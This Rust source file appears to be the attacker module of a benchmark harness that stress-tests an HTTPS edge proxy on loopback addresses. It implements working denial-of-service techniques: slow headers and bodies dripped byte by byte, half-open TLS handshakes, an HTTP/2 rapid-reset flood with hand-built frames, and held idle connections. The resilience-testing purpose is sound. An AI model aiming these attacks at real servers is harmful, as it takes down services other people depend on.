//! What is done to the edge, each by clients that begin again whenever they are cut.
//!
//! All of an attack runs on one thread: it has one core at most, and the honest bank keeps the other.
//! HTTP/2 frames are written by hand (RFC 9113): a library would not send these.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::anyhow;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection};
use serde::Serialize;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;

use crate::bench::certs::Certificates;
use crate::bench::wire::secure;
use crate::bench::work::payments_path;

/// Between two bytes of who is slow.
const DRIP: Duration = Duration::from_millis(500);
/// Before a client that was cut or refused comes again.
const AGAIN: Duration = Duration::from_secs(3);
/// A handshake that takes longer is given up.
const PATIENCE: Duration = Duration::from_secs(10);
/// Streams opened and reset in one write.
const RESETS_AT_ONCE: u32 = 16;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// One attack.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// What is done.
    pub kind: Kind,
    /// By how many clients at once.
    pub clients: usize,
    /// From how many addresses, 127.0.0.2 and up.
    pub addresses: u8,
}

/// What can be done to an edge.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Kind {
    /// Over TLS, a head that comes byte by byte.
    SlowHeads,
    /// Over TLS, a head, and then a body that comes byte by byte.
    SlowBodies,
    /// The first word of a TLS handshake, and no second one.
    Handshakes,
    /// Over HTTP/2, requests that are reset as soon as they are sent.
    Resets,
    /// Over TLS, one request for what is not there, and then nothing.
    Held,
}

/// What an attack came to.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default, Serialize)]
pub struct Done {
    /// Connections made.
    pub connected: u64,
    /// Of them, those that were let in (TLS; of the first words of handshakes: answered).
    pub let_in: u64,
    /// The most that were let in at one time.
    pub let_in_at_once: u64,
    /// Streams reset.
    pub resets: u64,
}

/// An attack under way.
pub struct Attacker {
    thread: JoinHandle<io::Result<()>>,
    stop: CancellationToken,
    counts: Arc<Counts>,
}

#[derive(Debug, Default)]
struct Counts {
    connected: AtomicU64,
    let_in: AtomicU64,
    now: AtomicU64,
    at_once: AtomicU64,
    resets: AtomicU64,
}

#[derive(Clone)]
struct Client {
    kind: Kind,
    to: SocketAddr,
    from: Ipv4Addr,
    tls: Arc<ClientConfig>,
    counts: Arc<Counts>,
}

/// A connection that was let in, until it is dropped.
struct In<'a>(&'a Counts);

// === impl Attacker ===

impl Attacker {
    /// Begins.
    ///
    /// # Errors
    /// When a certificate does not serve.
    pub fn start(
        attack: Attack,
        to: SocketAddr,
        certificates: &Certificates,
    ) -> anyhow::Result<Self> {
        let tls = certificates.client(false, attack.kind == Kind::Resets)?;
        let (stop, counts) = (CancellationToken::new(), Arc::<Counts>::default());
        let (stopped, of_clients) = (stop.clone(), Arc::clone(&counts));
        let client = move |from| Client {
            kind: attack.kind,
            to,
            from,
            tls: Arc::clone(&tls),
            counts: Arc::clone(&of_clients),
        };
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()?;
            runtime.block_on(async {
                let tasks = TaskTracker::new();
                for number in 0..attack.clients {
                    let last = u8::try_from(number % usize::from(attack.addresses.max(1)));
                    let from = Ipv4Addr::new(127, 0, 0, last.unwrap_or(0).saturating_add(2));
                    tasks.spawn(client(from).until(stopped.clone()));
                }
                tasks.close();
                tasks.wait().await;
            });
            Ok(())
        });
        Ok(Self {
            thread,
            stop,
            counts,
        })
    }

    /// Ends.
    ///
    /// # Errors
    /// When it could not begin.
    pub async fn stop(self) -> anyhow::Result<Done> {
        self.stop.cancel();
        let joined = tokio::task::spawn_blocking(|| self.thread.join()).await?;
        joined.map_err(|_panic| anyhow!("an attack panicked"))??;
        Ok(self.counts.done())
    }
}

// === impl Counts ===

impl Counts {
    fn done(&self) -> Done {
        let of = |count: &AtomicU64| count.load(Ordering::Relaxed);
        Done {
            connected: of(&self.connected),
            let_in: of(&self.let_in),
            let_in_at_once: of(&self.at_once),
            resets: of(&self.resets),
        }
    }

    fn let_in(&self) -> In<'_> {
        self.let_in.fetch_add(1, Ordering::Relaxed);
        let now = self.now.fetch_add(1, Ordering::Relaxed) + 1;
        self.at_once.fetch_max(now, Ordering::Relaxed);
        In(self)
    }
}

impl Drop for In<'_> {
    fn drop(&mut self) {
        self.0.now.fetch_sub(1, Ordering::Relaxed);
    }
}

// === impl Client ===

impl Client {
    async fn until(self, stop: CancellationToken) {
        let again = async {
            loop {
                // However it ended, that is what the edge did about it.
                drop(self.once().await);
                if self.kind != Kind::Resets {
                    sleep(AGAIN).await;
                }
            }
        };
        stop.run_until_cancelled(again).await.unwrap_or(());
    }

    async fn once(&self) -> io::Result<()> {
        let socket = TcpSocket::new_v4()?;
        socket.set_reuseaddr(true)?;
        socket.bind((self.from, 0).into())?;
        let stream = socket.connect(self.to).await?;
        self.counts.connected.fetch_add(1, Ordering::Relaxed);
        if self.kind == Kind::Handshakes {
            return self.begin_handshake(stream).await;
        }
        let secured = timeout(PATIENCE, secure(stream, &self.tls)).await;
        let mut stream = secured.map_err(|_elapsed| io::ErrorKind::TimedOut)??;
        let path = payments_path();
        let head =
            format!("POST {path} HTTP/1.1\r\nhost: edge\r\ncontent-type: application/json\r\n");
        let begin = match self.kind {
            Kind::Handshakes | Kind::Resets => {
                let _in = self.counts.let_in();
                return self.reset(stream).await;
            }
            Kind::SlowHeads => format!("{head}x-slow: "),
            Kind::SlowBodies => format!("{head}content-length: 10000\r\n\r\n{{"),
            Kind::Held => "GET /nothing HTTP/1.1\r\nhost: edge\r\n\r\n".to_owned(),
        };
        // With TLS 1.3 the client is done first: who is let in has read something.
        let _in = self.counts.let_in();
        stream.write_all(begin.as_bytes()).await?;
        stream.flush().await?;
        if self.kind == Kind::Held {
            return read_out(&mut stream).await;
        }
        let (mut reads, mut writes) = tokio::io::split(stream);
        tokio::select! {
            read = read_out(&mut reads) => read,
            written = drip(&mut writes) => written,
        }
    }

    async fn begin_handshake(&self, mut stream: TcpStream) -> io::Result<()> {
        let name = ServerName::from(self.to.ip());
        let begun = ClientConnection::new(Arc::clone(&self.tls), name);
        let mut hello = Vec::new();
        begun.map_err(io::Error::other)?.write_tls(&mut hello)?;
        stream.write_all(&hello).await?;
        let mut some = [0; 64];
        if stream.read(&mut some).await? == 0 {
            return Ok(());
        }
        let _in = self.counts.let_in();
        read_out(&mut stream).await
    }

    async fn reset<S: AsyncRead + AsyncWrite>(&self, stream: S) -> io::Result<()> {
        let (mut reads, mut writes) = tokio::io::split(stream);
        let resetting = async {
            writes.write_all(PREFACE).await?;
            writes.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
            let fields = fields(&payments_path());
            let mut number = 1_u32;
            let mut bytes = Vec::new();
            loop {
                bytes.clear();
                for _ in 0..RESETS_AT_ONCE {
                    bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, number, &fields));
                    bytes.extend(frame(RST_STREAM, 0, number, &CANCEL.to_be_bytes()));
                    number += 2;
                }
                writes.write_all(&bytes).await?;
                writes.flush().await?;
                let sent = u64::from(RESETS_AT_ONCE);
                self.counts.resets.fetch_add(sent, Ordering::Relaxed);
                // Writing to oneself never waits; the others have their turn.
                tokio::task::yield_now().await;
            }
        };
        tokio::select! {
            read = read_out(&mut reads) => read,
            written = resetting => written,
        }
    }
}

/// Reads until the other end closes.
async fn read_out<S: AsyncRead + Unpin>(stream: &mut S) -> io::Result<()> {
    let mut some = [0; 1_024];
    while stream.read(&mut some).await? > 0 {}
    Ok(())
}

/// Writes a byte now and then until that fails.
async fn drip<S: AsyncWrite + Unpin>(stream: &mut S) -> io::Result<()> {
    loop {
        sleep(DRIP).await;
        stream.write_all(b"x").await?;
        stream.flush().await?;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The fields of a POST to a path, without compression (RFC 7541).
fn fields(path: &str) -> Vec<u8> {
    // :method POST, :scheme https; then :path and :authority in their own words.
    let mut fields = vec![0x83, 0x87];
    for (indexed, text) in [(4, path), (1, "edge")] {
        fields.push(0x40 | indexed);
        fields.push(u8::try_from(text.len()).unwrap_or(0));
        fields.extend(text.as_bytes());
    }
    fields
}
